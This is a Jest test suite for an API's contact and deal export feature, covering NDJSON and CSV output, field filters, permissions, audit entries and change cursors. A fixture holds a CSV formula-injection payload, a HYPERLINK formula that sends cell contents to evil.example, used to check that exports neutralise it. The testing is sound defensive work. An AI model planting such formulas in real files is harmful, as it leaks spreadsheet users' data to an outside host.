/** All that a search finds, as a stream: its formats, who may have it, what it leaves and what it holds. */

import { beforeAll, describe, expect, test } from '@jest/globals';
import { undefuse } from '../../src/csv/formula.ts';
import { sendBatch } from '../kit/batch.ts';
import { readCsv } from '../kit/csv.ts';
import { read } from '../kit/feed.ts';
import type { Page, Stored } from '../kit/records.ts';
import { invalidSearchOf, notFound, unauthorized } from '../kit/refusals.ts';
import type { Headers } from '../kit/rest.ts';
import { sharedService } from '../kit/service.ts';
import { unique, world } from '../kit/world.ts';

const service = await sharedService();
const w = await world(service);
const hostile = '=HYPERLINK("https://evil.example/?"&A1;"x")';
beforeAll(async () => {
  const { id } = await w.contact({
    full_name: hostile,
    phone: '+5511987654321',
    label_list: ['a, b', '-c'],
    custom_attributes: { note: 'two\nlines', '=1': [12345678901234567890n.toString()] },
  });
  await w.contact({ full_name: "'=quoted", email: unique('plain') });
  await service.database.query(
    `UPDATE contacts SET custom_attributes = E'{"a":\n 12345678901234567890,\r\n"__proto__": null}' WHERE full_name = $1`,
    ["'=quoted"],
  );
  const deal = await w.deal({ contact_id: id, name: 'x', lost_reason: '@now', status: 'lost' });
  await w.dealProduct({ deal_id: deal.id });
});

const all = async (path: string, query: object = {}) => {
  const { text } = await w.rest.post<Page<Stored>>(`${path}/search`, { query, per_page: 100 });
  // As the answer has it, so that no number is rounded on the way.
  return text.slice('{"data":['.length, text.lastIndexOf('],"pagination"'));
};
const exported = (path: string, rest = '', headers: Headers = {}) =>
  w.rest.get<unknown>(`${path}/export${rest}`, headers);

const kinds = ['/contacts', '/deals', '/products', '/deal_products', '/events', '/users'];

describe('an export', () => {
  test.each(kinds)('of %s has each record as a search shows it', async (path) => {
    const { status, text, headers } = await exported(path);
    expect(status).toBe(200);
    expect(headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(headers['cache-control']).toBe('no-store');
    const lines = text.split('\n').slice(0, -1);
    expect(lines.map((line) => JSON.parse(line))).toEqual(JSON.parse(`[${await all(path)}]`));
    expect(lines.join(',')).toBe((await all(path)).replaceAll(/[\r\n]/g, ' '));
    expect(headers['x-total-count']).toBe(String(lines.length));
    expect(headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="${path.slice(1)}-\\d{4}-\\d\\d-\\d\\d.ndjson"$`),
    );
  });

  test.each(kinds)('of %s as CSV has the same values', async (path) => {
    const { text, headers } = await exported(path, '?format=csv');
    expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    const [names = [], ...rows] = readCsv(text);
    const records: Record<string, unknown>[] = JSON.parse(`[${await all(path)}]`);
    expect(names).toEqual(Object.keys(records[0] ?? {}));
    expect(rows).toHaveLength(records.length);
    rows.forEach((row, at) => {
      row.forEach((cell, column) => {
        const value = records[at]?.[names[column] ?? ''];
        if (value === null) expect(cell).toBe('');
        else if (typeof value !== 'object') expect(undefuse(cell)).toBe(String(value));
        else if (!Array.isArray(value)) expect(JSON.parse(cell)).toEqual(value);
      });
    });
  });

  test('as CSV runs nothing in a spreadsheet, and keeps what it holds', async () => {
    const { text } = await exported('/contacts', '?format=csv&query[s]=id');
    const [names = [], first = [], second = []] = readCsv(text);
    const of = (row: string[], name: string) => row[names.indexOf(name)];
    expect(of(first, 'full_name')).toBe(`'${hostile}`);
    expect(of(second, 'full_name')).toBe("''=quoted");
    expect(of(first, 'phone')).toBe('+5511987654321');
    expect(of(first, 'label_list')).toBe('"a, b", -c');
    expect(of(second, 'custom_attributes')).toContain('12345678901234567890');
  });

  test('has what a query finds, in its order, by the language of searches', async () => {
    const query = { full_name_or_email_cont: 'plain', deals_name_eq: '', s: 'id desc' };
    const { text } = await exported(
      '/contacts',
      '?format=ndjson&query[full_name_or_email_cont]=plain&query[deals_name_eq]=&query[s]=id+desc',
    );
    expect(text).toBe(`${(await all('/contacts', query)).replaceAll(/[\r\n]/g, ' ')}\n`);
    const none = await exported('/contacts', '?query[id_lt]=0');
    expect([none.text, none.headers['x-total-count']]).toEqual(['', '0']);
    const head = await exported('/contacts', '?query[id_lt]=0&format=csv');
    expect(head.text).toMatch(/^id,full_name,.*\r\n$/);
  });

  test('has the fields chosen alone, in the order of the whole, and reads no others', async () => {
    const from = service.statements.length;
    const { text, headers } = await exported(
      '/deals',
      '?fields=contact_id,%20name&fields=id&query[name_eq]=x',
    );
    const sent = service.statements.slice(from).filter((sql) => sql.includes('"contact_id"'));
    expect(sent.filter((sql) => /"(stage_id|custom_attributes|lost_reason)"/.test(sql))).toEqual(
      [],
    );
    const [deal] = JSON.parse(`[${await all('/deals', { name_eq: 'x' })}]`);
    const { id, name, contact_id } = deal;
    expect(text).toBe(`${JSON.stringify({ id, name, contact_id })}\n`);
    const [row] = await service.database.query(
      'SELECT after FROM audit_entries WHERE account_id = $1 AND request_id = $2',
      [w.accountId, headers['x-request-id']],
    );
    const told = { records: 'deals', format: 'ndjson', conditions: ['name_eq'], total: 1 };
    expect(row).toEqual({ after: { ...told, fields: ['id', 'name', 'contact_id'] } });
    const csv = await exported('/deals', '?format=csv&fields=contact_id,id&query[name_eq]=x');
    expect(csv.text).toBe(`id,contact_id\r\n${id},${contact_id}\r\n`);
  });

  test.each(kinds)('of %s may have any one of its fields alone', async (path) => {
    const [first = {}] = JSON.parse(`[${await all(path)}]`);
    for (const field of Object.keys(first)) {
      const { text } = await exported(path, `?fields=${field}`);
      const [line = ''] = text.split('\n');
      expect(JSON.parse(line)).toEqual({ [field]: first[field] });
    }
  });

  test('takes empty fields as none', async () => {
    const { text } = await exported('/contacts', '?fields=&fields=,');
    expect(text).toBe((await exported('/contacts')).text);
  });

  test.each([
    ['?fields=id,fullname', { fields: '"fullname" is not a field (did you mean full_name?)' }],
    ['?fields[a]=id', { fields: 'is not a list of names, divided by commas' }],
    ['?format=xlsx', { format: 'is not included in the list (ndjson, csv)' }],
    ['?query[nope_eq]=1', { nope_eq: 'is not a searchable attribute' }],
    ['?full_name_cont=x', { full_name_cont: 'is not part of an export' }],
    ['?formt=csv', { formt: 'is not part of an export (did you mean format?)' }],
  ])('%s is refused', async (rest, messages) => {
    expect((await exported('/contacts', rest)).body).toMatchObject({
      fields: invalidSearchOf(messages).fields,
    });
  });

  test('may be compressed', async () => {
    const { status, headers } = await exported('/contacts', '', { 'accept-encoding': 'gzip' });
    expect([status, headers['content-encoding']]).toEqual([200, 'gzip']);
  });

  test('answers HEAD with its size', async () => {
    const { status, headers, text } = await w.rest.send('HEAD', '/contacts/export');
    expect([status, headers['x-total-count'], text]).toEqual([200, '2', '']);
  });
});

describe('who exports', () => {
  test('needs a token of the account, and the scopes to read what is looked at', async () => {
    const other = await world(service);
    const path = '/contacts/export';
    expect(await w.restAs(undefined).get(path)).toAnswer(401, unauthorized);
    expect(await w.restAs(other.admin.token).get(path)).toAnswer(404, notFound);
    const { body } = await w.rest.post<{ access_token: string }>('/tokens', {
      name: 'deals alone',
      scopes: ['deals:read'],
    });
    const narrow = w.restAs(body.access_token);
    expect((await narrow.get(path)).status).toBe(403);
    expect((await narrow.get('/deals/export')).status).toBe(200);
    expect((await narrow.get('/deals/export?query[contact_email_start]=a')).status).toBe(403);
    expect((await w.restAs(w.member.token).get(path)).status).toBe(200);
  });

  test('never gets a record of another account', async () => {
    const other = await world(service);
    const { id } = await other.contact();
    const { text } = await other.rest.get<unknown>('/contacts/export');
    expect(
      text
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line).id),
    ).toEqual([id]);
  });

  test('is told by the audit trail, without anything that the client wrote', async () => {
    const mine = 'custom_attributes.ana@example.com_eq';
    const query = new URLSearchParams({
      'query[email_eq]': 'somebody@example.com',
      [`query[${mine}]`]: 'x',
      [`query[full_name_or_${mine}]`]: 'x',
      [`query[g][0][deals_name_cont]`]: 'Ana',
      'query[ana@example.com]': '',
    });
    const answer = await exported('/contacts', `?format=csv&${query}`);
    const rows = await service.database.query(
      `SELECT action, record_type, record_id::int, user_id::int, before, after FROM audit_entries
       WHERE account_id = $1 AND request_id = $2`,
      [w.accountId, answer.headers['x-request-id']],
    );
    expect(rows).toEqual([
      {
        ...{ action: 'account.export', record_type: 'account', record_id: w.accountId },
        ...{ user_id: w.admin.id, before: null },
        after: {
          ...{ records: 'contacts', format: 'csv', total: 0 },
          conditions: [
            'email_eq',
            'custom_attributes_eq',
            'full_name_or_custom_attributes_eq',
            'deals_name_cont',
          ],
        },
      },
    ]);
  });

  test('may follow what changes from then on, if they may follow anything', async () => {
    const { headers } = await exported('/contacts');
    const { id } = await w.contact();
    const cursor = String(headers['x-changes-cursor']);
    const { data } = await read(w.rest, cursor, 1, { records: 'contacts' });
    expect(data.map(({ record_id }) => record_id)).toEqual([id]);
    const member = await w.restAs(w.member.token).get('/contacts/export');
    expect(member.headers['x-changes-cursor']).toBeUndefined();
  });

  test('are not kept from the records by a long write, during which no cursor can be told', async () => {
    const letGo = await service.database.hold('SELECT pg_current_xact_id()');
    const records = Array.from({ length: 401 }, (_, n) => ({ full_name: `Meanwhile ${n}` }));
    expect((await sendBatch(w.rest, 'contacts', 'create', records)).status).toBe(200);
    const exporting = await w.rest.get('/contacts/export?query[full_name_start]=Meanwhile');
    await letGo();
    expect(exporting.headers).toMatchObject({ 'x-total-count': '401' });
    expect(exporting.headers).not.toHaveProperty('x-changes-cursor');
    expect(exporting.text.trim().split('\n')).toHaveLength(401);
  });
});
